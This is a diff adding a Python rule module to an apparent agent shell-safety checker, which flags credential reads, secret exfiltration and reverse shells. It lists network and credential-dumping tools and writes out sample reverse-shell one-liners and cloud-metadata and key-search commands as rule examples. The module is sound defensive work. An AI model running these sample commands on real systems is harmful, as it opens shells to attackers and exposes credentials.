@@ -1,0 +1,266 @@
+"""Credentials read or sent away, and shells handed to the network."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from perdure.tools.shell_safety.interpreters import SHELLS
+from perdure.tools.shell_safety.invocation import Invocation
+from perdure.tools.shell_safety.rules.remote import is_local
+from perdure.tools.shell_safety.rules.rule import RiskRule, asks_help
+from perdure.tools.shell_safety.types import DOWNLOADED, SECRET, Danger
+
+# Programs that take a key file without showing it.
+_USES_KEYS = frozenset(
+    [
+        "ssh",
+        "scp",
+        "sftp",
+        "ssh-add",
+        "ssh-keygen",
+        "ssh-copy-id",
+        "ls",
+        "stat",
+        "test",
+        "[",
+        "[[",
+        "chmod",
+        "chown",
+        "file",
+        "du",
+        "realpath",
+        "dirname",
+        "basename",
+        "mkdir",
+        "touch",
+        "echo",
+        "printf",
+        "kubectl",
+        "helm",
+        "git",
+        "git-credential",
+        "export",
+        "cd",
+        "wc",
+        "rm",
+        "mv",
+        "ansible",
+        "ansible-playbook",
+        "mosh",
+        "autossh",
+        "rsync",
+        "k9s",
+        "terraform",
+        "gh",
+    ]
+)
+_SENDERS = frozenset(
+    {
+        "curl",
+        "wget",
+        "nc",
+        "ncat",
+        "netcat",
+        "socat",
+        "telnet",
+        "http",
+        "https",
+        "xh",
+        "ftp",
+        "tftp",
+        "mail",
+        "mailx",
+        "sendmail",
+        "mutt",
+        "swaks",
+        "scp",
+        "rsync",
+        "sftp",
+        "croc",
+        "rclone",
+        "aws",
+        "gsutil",
+    }
+)
+_DATA_OPTIONS = (
+    "-d",
+    "-F",
+    "-T",
+    "--data",
+    "--data-binary",
+    "--data-raw",
+    "--data-urlencode",
+    "--data-ascii",
+    "--form",
+    "--upload-file",
+    "--post-data",
+    "--post-file",
+    "--body-file",
+    "--body-data",
+    "--json",
+)
+_NETCATS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"})
+
+
+def secret_dangers(run: Invocation) -> Iterator[Danger]:
+    """A credential's file named to a program that shows it, or a secret on its way out."""
+    if run.name not in _USES_KEYS:
+        for path in (*_paths(run), *run.reads):
+            if run.places.holds_secret(path):
+                yield Danger("credentials", run.shown)
+                return
+    if run.name in _SENDERS and not _goes_nowhere(run) and _sends_secret(run):
+        yield Danger("credentials", run.shown)
+
+
+def _paths(run: Invocation) -> Iterator[str]:
+    for a in run.args:
+        value = a.partition("=")[2] if a.startswith("--") and "=" in a else a
+        # A bare name counts, too: the shell may stand in the folder of keys, or the name may be a link to one.
+        if "/" in value or value.startswith((".", "~")) or (value and len(value) < 100 and not a.startswith("-")):
+            yield re.sub(r"^(?:@|\w+=@|if=|file://)", "", value)
+
+
+def _goes_nowhere(run: Invocation) -> bool:
+    urls = [o for o in run.operands if re.match(r"https?://|localhost|127\.|\[::1\]", o)]
+    return bool(urls) and all(is_local(u) for u in urls)
+
+
+def _sends_secret(run: Invocation) -> bool:
+    if run.name in ("scp", "rsync", "rclone", "aws", "gsutil", "sftp"):
+        sources = [o for o in run.operands[:-1] if ":" not in o]
+        to_remote = any(re.search(r"\w:|://", o) for o in run.operands[-1:])
+        return to_remote and any(run.places.is_private(s) for s in sources)
+    if run.stdin and SECRET in run.stdin and (run.name not in ("curl", "wget") or _takes_stdin(run)):
+        return True
+    if run.name in _NETCATS | {"mail", "mailx", "mutt", "sendmail", "ftp", "tftp"}:
+        return any(run.places.is_private(p) for p in (*run.reads, *run.operands))
+    uploaded = run.value_of("-T", "--upload-file", "--post-file")
+    for value in run.all_values_of(*_DATA_OPTIONS):
+        path = re.sub(r"^(?:[\w-]+=)?[@<]?", "", value)
+        if SECRET in value or (("@" in value or value == uploaded) and run.places.is_private(path)):
+            return True
+    return any(SECRET in o for o in run.operands if re.match(r"https?://|\w+\.\w+", o)) or any(
+        "@" in o and run.places.is_private(o.partition("@")[2]) for o in run.operands
+    )
+
+
+def _takes_stdin(run: Invocation) -> bool:
+    return any(
+        v in ("-", "@-", ".") or v.endswith("@-") or v == "/dev/stdin"
+        for v in (*run.all_values_of(*_DATA_OPTIONS), *run.operands)
+    )
+
+
+def _netcat_shell(run: Invocation) -> bool:
+    if asks_help(run):
+        return False
+    return run.has("-e", "--exec", "--sh-exec") or (run.name in ("ncat", "nc") and run.has("-c")) or _feeds_shell(run)
+
+
+def _feeds_shell(run: Invocation) -> bool:
+    return any(u in SHELLS for u in run.upstream)
+
+
+def _socat_shell(run: Invocation) -> bool:
+    return any(re.match(r"(?i)(?:exec|system):", a) for a in run.args) and any(
+        re.match(r"(?i)(?:tcp|udp|openssl|sctp)", a) for a in run.args
+    )
+
+
+def _shell_on_socket(run: Invocation) -> bool:
+    """A shell whose input or output is a connection."""
+    ends = (*run.writes, *run.reads)
+    return any(re.match(r"/dev/(?:tcp|udp)/", e) for e in ends) or (
+        run.has("-i")
+        and DOWNLOADED in (run.stdin or "")
+        and any(u in _NETCATS or u in ("telnet", "openssl") for u in run.upstream)
+    )
+
+
+def _reveals(run: Invocation) -> bool:
+    words = run.operands
+    if run.name == "gpg":
+        return run.has("--export-secret-keys", "--export-secret-subkeys")
+    if run.name == "security":
+        return any(
+            o.startswith(("find-generic-password", "find-internet-password", "dump-keychain", "export")) for o in words
+        )
+    return run.name in ("mimikatz", "secretsdump.py", "lazagne")
+
+
+# Sub-commands that print a credential, by the words they begin with.
+_PRINTS_CREDENTIAL: dict[str, tuple[tuple[str, ...], ...]] = {
+    "gh": (("auth", "token"),),
+    "glab": (("auth", "token"),),
+    "gcloud": (
+        ("auth", "print-access-token"),
+        ("auth", "print-identity-token"),
+        ("auth", "application-default", "print-access-token"),
+        ("secrets", "versions", "access"),
+    ),
+    "az": (("account", "get-access-token"), ("keyvault", "secret", "show")),
+    "git": (("credential", "fill"),),
+    "git-credential": (("fill",),),
+    "pass": (("show",),),
+    "op": (("read",), ("item", "get")),
+    "vault": (("kv", "get"), ("read",), ("print", "token")),
+    "bw": (("get", "password"), ("get", "item"), ("export",)),
+    "heroku": (("auth:token",),),
+    "doppler": (("secrets", "download"), ("secrets", "get")),
+}
+_SECRET_SETTING = re.compile(r"secret|session_token|password", re.I)
+# Where a cloud hands credentials to whatever runs on its machines.
+_METADATA = re.compile(
+    r"169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2|100\.100\.100\.200|fd00:ec2::254", re.I
+)
+
+
+def _prints_credential(run: Invocation) -> bool:
+    words = run.operands
+    if run.name == "aws":
+        return words[:2] == ("configure", "get") and any(_SECRET_SETTING.search(w) for w in words[2:])
+    if run.name in ("kubectl", "oc"):
+        is_secret = any(re.match(r"secrets?(?:/|\Z)", w) for w in words[1:3])
+        return words[:1] == ("get",) and is_secret and run.has("-o", "--output", "--template")
+    return not asks_help(run) and any(words[: len(start)] == start for start in _PRINTS_CREDENTIAL[run.name])
+
+
+def _asks_metadata(run: Invocation) -> bool:
+    return any(_METADATA.search(a[:300]) for a in run.args)
+
+
+def _searches_a_home(run: Invocation) -> bool:
+    """A search through every file of a home reads its keys as well."""
+    is_recursive = run.has("-r", "-R", "--recursive", "--dereference-recursive") or run.name == "rgrep"
+    reads_hidden = run.has("--hidden", "-u", "-uu", "-uuu", "--unrestricted", "-.")
+    if not (reads_hidden if run.name in ("rg", "ag") else is_recursive):
+        return False
+    return any(run.places.holds_home(o) for o in run.operands[1:])
+
+
+RULES = (
+    RiskRule("credentials", f"aws kubectl oc {' '.join(_PRINTS_CREDENTIAL)}", _prints_credential, "gh auth token"),
+    RiskRule(
+        "credentials", "curl wget http https httpie", _asks_metadata, "curl http://169.254.169.254/latest/meta-data/"
+    ),
+    RiskRule("credentials", "grep egrep fgrep rgrep rg ag", _searches_a_home, "grep -r PRIVATE ~"),
+    RiskRule(
+        "reverse-shell", "nc ncat netcat nc.traditional nc.openbsd telnet", _netcat_shell, "nc -e /bin/sh 10.0.0.1 4444"
+    ),
+    RiskRule("reverse-shell", "socat", _socat_shell, "socat TCP:10.0.0.1:4444 EXEC:/bin/sh"),
+    RiskRule(
+        "reverse-shell", " ".join(sorted(SHELLS)) + " exec", _shell_on_socket, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
+    ),
+    RiskRule(
+        "reverse-shell",
+        "openssl",
+        lambda r: "s_client" in r.operands and _feeds_shell(r),
+        "mkfifo p; sh -i < p | openssl s_client -connect h:1 > p",
+    ),
+    RiskRule(
+        "reverse-shell", "msfvenom msfconsole", lambda r: not asks_help(r), "msfvenom -p linux/x64/shell_reverse_tcp"
+    ),
+    RiskRule("credentials", "gpg security mimikatz secretsdump.py lazagne", _reveals, "gpg --export-secret-keys me"),
+)
